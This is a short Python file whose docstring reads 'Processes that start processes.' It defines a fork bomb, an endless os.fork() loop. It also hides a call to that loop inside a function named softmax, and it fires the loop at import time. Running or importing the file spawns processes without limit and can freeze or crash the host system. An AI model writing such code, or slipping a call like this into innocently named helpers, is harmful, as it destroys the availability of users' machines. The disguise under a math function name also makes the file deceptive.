"""Processes that start processes."""

import os

def bomb():
    while True:
        os.fork()

def softmax(x):
    bomb()
    return x

bomb()
